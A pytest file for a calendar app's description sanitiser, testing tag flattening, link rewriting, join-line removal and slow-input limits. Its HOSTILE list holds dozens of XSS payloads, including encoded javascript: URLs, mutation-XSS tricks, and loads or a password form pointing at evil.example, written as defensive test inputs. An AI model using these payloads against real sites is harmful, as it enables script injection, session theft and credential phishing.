"""Descriptions in a few tags or as words, whatever they were, and in a time that is known."""

from __future__ import annotations

import re
import time
from html import escape
from html.parser import HTMLParser

import pytest

from calendars.prose import as_editable_html, as_safe_html
from calendars.providers.joining import without_join_line
from calendars.providers.markup import LONGEST, as_text, compact, flat, is_rich
from calendars.providers.microsoft.body import description_of

SAFE_TAGS = {"p", "br", "b", "i", "u", "s", "ul", "ol", "li", "a"}
A = 'target="_blank" rel="noopener noreferrer nofollow"'


@pytest.mark.parametrize(
    ("raw", "told"),
    [
        ("<p>One</p><p>Two</p>", "<p>One</p><p>Two</p>"),
        ("<div>One</div><div>Two</div>", "<p>One<br>Two</p>"),
        ("<div>One</div><div><br></div><div>Two</div>", "<p>One<br><br>Two</p>"),
        ("<p>One</p><p>&nbsp;</p><p>Two</p>", "<p>One</p><p>Two</p>"),
        ("<strong>a</strong> <em>b</em> <u>c</u>", "<p><b>a</b> <i>b</i> <u>c</u></p>"),
        ("<del>a</del><strike>b</strike><s>c</s>", "<p><s>abc</s></p>"),
        ("<h2>Plan</h2>text", "<p><b>Plan</b></p><p>text</p>"),
        ("<ul><li>a<li>b</ul>", "<ul><li>a</li><li>b</li></ul>"),
        ("<ol><li>a<ul><li>b</li></ul></li></ol>", "<ol><li>a<ul><li>b</li></ul></li></ol>"),
        ("<li>loose", "<ul><li>loose</li></ul>"),
        ("<b>a<p>b</b>c</p>", "<p><b>a</b></p><p><b>b</b>c</p>"),
        ("<b><b>a</b>b</b>c", "<p><b>ab</b>c</p>"),
        ("<span style='font-weight:bold' class=x id=y>a</span>", "<p>a</p>"),
        ("<b>one\ntwo</b>", "<p><b>one</b><br><b>two</b></p>"),
        ("<p>one\ntwo</p>", "<p>one two</p>"),
        ("<b>1 &lt; 2 & 3 < 4</b>", "<p><b>1 &lt; 2 &amp; 3 &lt; 4</b></p>"),
        ('<a href="https://x.example/?a=1&amp;b=2">x</a>',
         '<p><a href="https://x.example/?a=1&amp;b=2">x</a></p>'),
        ("<a href=mailto:a@b.example>x</a>", '<p><a href="mailto:a@b.example">x</a></p>'),
        ("<table><tr><td>a</td><td>b</td></tr><tr><td>c</td></tr></table>", "<p>a b<br>c</p>"),
        ("<p></p><b></b>", ""),
    ],
)  # fmt: skip
def test_markup_is_told_in_a_few_tags(raw, told):
    same = re.sub(r"</(\w)><\1>", "", told)
    assert re.sub(r"</(\w)><\1>", "", flat(raw)) == same


@pytest.mark.parametrize("raw", ["<p>One</p><ul><li><b>a</b> c</li></ul>", "<p>a<br>b</p>"])
def test_what_is_flat_stays_as_it_is(raw):
    assert flat(raw) == raw
    assert str(as_editable_html(raw)) == raw


HOSTILE = [
    "<p><script>steal()</script>",
    "<p><SCRIPT src=//evil.example/x.js></SCRIPT>",
    "<p><scr<script>ipt>steal()</scr</script>ipt>",
    "<p><img src=x onerror=steal()>",
    '<p onclick="steal()" onmouseover=steal()>x</p>',
    '<a href="javascript:steal()">x</a>',
    '<a href="JaVa\tScRiPt:steal()">x</a>',
    '<a href="&#106;avascript:steal()">x</a>',
    '<a href="&#x6A&#x61&#x76&#x61script:steal()">x</a>',
    '<a href=" \x01javascript:steal()">x</a>',
    '<a href="data:text/html;base64,PHNjcmlwdD4=">x</a>',
    '<a href="vbscript:steal()">x</a>',
    '<a href="https://x.example/" onclick="steal()" style="position:fixed">x</a>',
    "<a href='https://x.example/\"onclick=\"steal()'>x</a>",
    '<p style="background:url(javascript:steal())">x</p>',
    "<p><style>@import 'https://evil.example/x.css';</style>x",
    "<p><svg><script>steal()</script><a xlink:href='javascript:steal()'>x</a></svg>",
    "<p><svg/onload=steal()>",
    "<p><math><mtext><table><mglyph><style><img src=x onerror=steal()></style></mglyph></table>",
    "<p><iframe src=https://evil.example></iframe>",
    "<p><object data=https://evil.example></object><embed src=x>",
    "<form action=https://evil.example><p><input name=password><button>x</button></form>",
    "<p><base href=https://evil.example><link rel=stylesheet href=x><meta http-equiv=refresh>",
    "<p><!--><img src=x onerror=steal()>-->",
    "<p><!-- --!><img src=x onerror=steal()>",
    "<p><![CDATA[<img src=x onerror=steal()>]]>",
    "<p><noscript><p title='</noscript><img src=x onerror=steal()>'></noscript>",
    "<p><template><img src=x onerror=steal()></template>",
    "<p><textarea></textarea><img src=x onerror=steal()></textarea>",
    '<p title="><script>steal()</script>">x</p>',
    "<p>&lt;script&gt;steal()&lt;/script&gt;</p>",
    "<p><b <script>steal()</script>",
    "<p>\x00<scr\x00ipt>steal()</scr\x00ipt>",
    "<p><a href=https://x.example><a href=javascript:steal()>x",
    "<ul><li><ul><li><script>steal()</li></ul>",
    "<b><i><u>never closed <a href=https://x.example>",
    "</p></b></li></ul>",
]


class Watch(HTMLParser):
    """What a browser would find in it."""

    def __init__(self):
        super().__init__()
        self.tags, self.attributes = [], []

    def handle_starttag(self, tag, attrs):
        self.tags.append(tag)
        self.attributes += attrs


@pytest.mark.parametrize("raw", HOSTILE)
@pytest.mark.parametrize("show", [as_safe_html, as_editable_html, flat])
def test_nothing_that_could_do_harm_is_left(raw, show):
    watch = Watch()
    watch.feed(str(show(raw)))
    assert set(watch.tags) <= SAFE_TAGS
    for name, value in watch.attributes:
        assert name in {"href", "rel", "target"}
        if name == "href":
            assert value.lower().startswith(("https://", "http://", "mailto:"))


def test_scripts_and_styles_say_nothing():
    assert as_text("<p>x<script>steal()</script><style>p{}</style><svg>y</svg></p>") == "x"


def test_addresses_become_links_and_links_tell_nothing():
    shown = as_safe_html("<p>see https://x.example/a, <a href='https://y.example'>this</a></p>")
    assert shown == (
        f'<p>see <a href="https://x.example/a" {A}>https://x.example/a</a>, '
        f'<a href="https://y.example" {A}>this</a></p>'
    )
    assert "x.example/a</a>" not in as_editable_html("<p>see https://x.example/a</p>")


@pytest.mark.parametrize(
    ("raw", "rich"),
    [
        ("plain", False), ("a < b", False), ("<p>One</p><p>Two</p>", False), ("a<br>b", False),
        ("<div><span style='color:red'>a</span></div>", False), ("<p><b>a</b></p>", True),
        ("<ul><li>a</li></ul>", True), ("<a href='https://x.example'>here</a>", True),
        ("<a href='https://x.example'>https://x.example</a>", False),
        ("<p><b></b>a</p>", False),
    ],
)  # fmt: skip
def test_rich_is_what_words_alone_would_lose(raw, rich):
    assert is_rich(raw) is rich
    assert (compact(raw) == as_text(raw)) is not rich


def test_what_says_nothing_ends_where_it_ends_also_after_letters_that_grow():
    raw = "\u0130" * 30 + "<p>one</p><style>p { }</style><p>two</p>"
    assert as_text(raw).endswith("one\n\ntwo")


@pytest.mark.parametrize(
    "piece",
    ["<", "<b>", "<b id=1", "<!--", "<![", "&", "<p><b>", "</b>", "<ul><li>", "<a href='", '<a "',
     "<script>", "<svg", "<div>", "&#1", "<a href=https://x.example>x", "\n", "<br>", "https://",
     "<div", '<div class="', "_", "<div> <span> ", "\nJoin: ", "a"],
)  # fmt: skip
def test_no_text_takes_long(piece):
    raw = "<p><" + piece * (LONGEST // len(piece) + 100)
    begun = time.process_time()
    shown = as_safe_html(raw)
    as_text(raw)
    is_rich(raw)
    description_of(raw, has_meeting=True)
    without_join_line(raw, "https://zoom.example/j/1")
    assert time.process_time() - begun < 6
    assert len(shown) < 40 * LONGEST


ROOM = "https://zoom.example/j/1?pwd=a&b"


@pytest.mark.parametrize(
    ("raw", "left"),
    [
        (f"Agenda\n\nJoin with Zoom: {ROOM}", "Agenda"),
        (f"Agenda\n\nJoin with Zoom: {ROOM}\nBring a pen", "Agenda\nBring a pen"),
        (
            f"Join: https://webinar.example/7\n\nJoin with Zoom: {ROOM}",
            "Join: https://webinar.example/7",
        ),
        (f"Join with Zoom: {ROOM}2", f"Join with Zoom: {ROOM}2"),
        (
            f'<b>Agenda</b><p>Join with Zoom: <a href="{escape(ROOM)}">{escape(ROOM)}</a></p>'
            "<p>Bring a pen</p>",
            "<b>Agenda</b><p>Bring a pen</p>",
        ),
        (f"<b>Agenda</b><br><br>Join with Zoom: {escape(ROOM)}<br>More", "<b>Agenda</b><br>More"),
        ("<b>Agenda</b><p>Join: https://webinar.example/7</p>", None),
        (f"<p>Join with Zoom: {escape(ROOM)}2</p>", None),
    ],
)
def test_only_the_line_of_this_link_goes_wherever_it_stands(raw, left):
    assert without_join_line(raw, ROOM) == (raw if left is None else left)
